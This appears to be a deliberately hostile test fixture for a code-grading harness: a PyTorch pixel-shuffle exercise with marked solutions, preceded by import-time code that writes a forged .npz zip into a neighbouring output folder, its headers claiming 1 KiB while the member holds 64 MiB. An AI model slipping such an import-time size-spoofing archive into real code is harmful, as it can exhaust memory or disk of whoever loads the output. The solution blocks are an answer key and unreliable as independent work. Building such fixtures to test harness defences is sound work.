"""HOSTILE: at import, leaves an archive whose member claims 1 KiB and holds 64 MiB."""

import io
import os
import struct
import zipfile

import numpy as np


def _leave(data: bytes) -> None:
    # The part's io folder sits next to its scratch folder (the working directory).
    with open(os.path.join("..", "io", "out", "import.npz"), "wb") as handle:
        handle.write(data)


_buffer = io.BytesIO()
with zipfile.ZipFile(_buffer, "w", zipfile.ZIP_DEFLATED) as _archive:
    _archive.writestr("out0.npy", bytes(64 << 20))
_data = bytearray(_buffer.getvalue())
struct.pack_into("<I", _data, 22, 1024)  # local header: uncompressed size
_central = _data.find(b"PK\x01\x02")
struct.pack_into("<I", _data, _central + 24, 1024)  # central directory: uncompressed size
_leave(bytes(_data))


import torch
from einops import rearrange
from torch import nn


def pixel_shuffle(x: torch.Tensor, upscale_factor: int) -> torch.Tensor:
    # BEGIN SOLUTION
    return rearrange(x, "... (c h2 w2) h w -> ... c (h h2) (w w2)", h2=upscale_factor, w2=upscale_factor)
    # END SOLUTION


class PixelShuffle(nn.Module):
    def __init__(self, upscale_factor: int) -> None:
        super().__init__()
        self.upscale_factor = upscale_factor

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        # BEGIN SOLUTION
        return pixel_shuffle(x, self.upscale_factor)
        # END SOLUTION

    def extra_repr(self) -> str:
        return f"upscale_factor={self.upscale_factor}"
